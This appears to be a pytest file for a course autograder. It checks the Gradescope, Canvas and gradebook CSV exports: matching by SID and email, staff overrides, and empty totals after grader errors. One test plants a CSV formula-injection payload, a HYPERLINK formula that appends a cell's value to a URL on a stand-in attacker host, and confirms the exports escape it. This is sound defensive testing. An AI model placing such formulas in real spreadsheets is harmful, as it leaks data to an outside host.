"""OUT/gradescope_scores.csv, Gradescope's score upload: students by SID and Email, points per question with
the staff overrides, Total Score; rows Gradescope cannot match still listed; no cell a spreadsheet runs."""
import json

import pandas as pd

from graders.classroom.gradebook import GRADESCOPE_SCORES, spreadsheet_safe, write_class_outputs
from graders.engine.rubric import load_rubric
from tests.helpers import CONV, check, write_status

HEADER = 'student,check,points,reason,who\n'


def identify(out, student, label, **who):
    """Give a status.json the identity an LMS export recorded (display, sis_id, email)."""
    path = out / student / label / 'status.json'
    path.write_text(json.dumps({**json.loads(path.read_text()), **who}))


def scores_of(out):
    return pd.read_csv(out / GRADESCOPE_SCORES, keep_default_na=False, dtype=str)


def test_one_row_per_student_by_sid_and_email_with_the_overridden_points(tmp_path):
    out = tmp_path
    for student in ('alice', 'bob', 'carol'):
        write_status(out, student, 'part1', checks=[check('Q8.1/test_loss', score=1.5, max_score=1.5),
                                                    check(CONV, 'failed', 0.4, 1.0, 'pad 0: relative error 0.3')])
    write_status(out, 'alice', 'part2', checks=[check('Q8.5/test_log', score=2, max_score=2),
                                                check('Q8.8/test_beats_chance', score=4, max_score=4)])
    write_status(out, 'bob', 'part2', status='grader-error', message='sandbox unavailable')
    identify(out, 'alice', 'part1', display='Alice Smith', sis_id='9031', email='alice@gatech.edu')
    identify(out, 'bob', 'part1', display='Bob Lee', sis_id='', email='blee7@gatech.edu')
    # carol came from a folder of her own: no metadata, nothing Gradescope can match on
    (out / 'overrides.csv').write_text(HEADER + 'alice,Q8.3/conv_backward_naive,full,her padding is right,TA Kim\n'
                                       'carol,Q8.1,0.5,copied softmax (honor code case 7),Prof. Lee\n')
    printed = []
    write_class_outputs(out, load_rubric(), log=printed.append)

    scores = scores_of(out)
    assert list(scores.columns) == ['Name', 'SID', 'Email', 'Q8.1', 'Q8.2', 'Q8.3', 'Q8.4',
                                    'Q8.5', 'Q8.6', 'Q8.7', 'Q8.8', 'Total Score']
    rows = {row['Name']: row for row in scores.to_dict('records')}
    assert rows['Alice Smith'] == {
        'Name': 'Alice Smith', 'SID': '9031', 'Email': 'alice@gatech.edu', 'Q8.1': '1.5', 'Q8.2': '0.0',
        'Q8.3': '1.0', 'Q8.4': '0.0',     # the check override: 0.4 -> 1 moves Q8.3 with it
        'Q8.5': '2.0', 'Q8.6': '0.0', 'Q8.7': '0.0', 'Q8.8': '4.0', 'Total Score': '8.5'}
    # bob's Part 2 is a grader error: its questions and the total stay empty, never a 0 he did not earn
    assert rows['Bob Lee'] == {
        'Name': 'Bob Lee', 'SID': '', 'Email': 'blee7@gatech.edu', 'Q8.1': '1.5', 'Q8.2': '0.0', 'Q8.3': '0.4',
        'Q8.4': '0.0', 'Q8.5': '', 'Q8.6': '', 'Q8.7': '', 'Q8.8': '', 'Total Score': ''}
    # carol: listed by her name with the gap in plain sight, named in a warning; the question override
    # replaces Q8.1; her Part 2 was never submitted: 0, as in gradebook.csv and canvas.csv
    assert rows['carol'] == {
        'Name': 'carol', 'SID': '', 'Email': '', 'Q8.1': '0.5', 'Q8.2': '0.0', 'Q8.3': '0.4', 'Q8.4': '0.0',
        'Q8.5': '0.0', 'Q8.6': '0.0', 'Q8.7': '0.0', 'Q8.8': '0.0', 'Total Score': '0.9'}
    assert [line for line in printed if GRADESCOPE_SCORES in line] == [
        f'warning: {GRADESCOPE_SCORES}: 1 of 3 students have no email or sid (Gradescope cannot match their '
        'rows; enter them by hand): carol']
    # the same totals as gradebook.csv and canvas.csv
    canvas = pd.read_csv(out / 'canvas.csv', keep_default_na=False, dtype=str)
    assert list(canvas['HW1 Q8']) == list(scores['Total Score'])
    assert f'<a href="{GRADESCOPE_SCORES}">' in (out / 'index.html').read_text()


def test_only_the_questions_of_the_parts_the_class_submitted(tmp_path):
    write_status(tmp_path, 'alice', 'part1', checks=[check('Q8.1/test_loss', score=1.5, max_score=1.5)])
    write_class_outputs(tmp_path, load_rubric(), log=lambda line: None)
    assert list(scores_of(tmp_path).columns) == ['Name', 'SID', 'Email', 'Q8.1', 'Q8.2', 'Q8.3', 'Q8.4',
                                                 'Total Score']


def test_no_cell_becomes_a_formula_in_any_export(tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Alice")'
    write_status(tmp_path, 'alice', 'part1', checks=[check('Q8.1/test_loss', score=1.5, max_score=1.5)])
    identify(tmp_path, 'alice', 'part1', display=hostile, sis_id='+1-555', email='@SUM(1+1)')
    write_class_outputs(tmp_path, load_rubric(), log=lambda line: None)
    scores = scores_of(tmp_path).iloc[0]
    assert (scores['Name'], scores['SID'], scores['Email'], scores['Q8.1']) == \
        ("'" + hostile, "'+1-555", "'@SUM(1+1)", '1.5')
    canvas = pd.read_csv(tmp_path / 'canvas.csv', keep_default_na=False, dtype=str).iloc[0]
    assert (canvas['Student'], canvas['SIS User ID'], canvas['SIS Login ID']) == \
        ("'" + hostile, "'+1-555", "'@SUM(1+1)")
    book = pd.read_csv(tmp_path / 'gradebook.csv', keep_default_na=False, dtype=str).iloc[0]
    assert book['name'] == "'" + hostile
    for path in ('gradebook.csv', 'canvas.csv', GRADESCOPE_SCORES):
        for line in (tmp_path / path).read_text().splitlines()[1:]:
            assert not any(cell.lstrip('"').startswith(('=', '+', '-', '@')) for cell in line.split(','))
    frame = pd.DataFrame({'text': ['-2+3', '\tcmd', '\r=x', 'Ana-Maria', '', 'a=b'], 'points': [-1.0, 0, 1, 2, 3, 4]})
    assert spreadsheet_safe(frame).to_dict('list') == {
        'text': ["'-2+3", "'\tcmd", "'\r=x", 'Ana-Maria', '', 'a=b'], 'points': [-1.0, 0, 1, 2, 3, 4]}
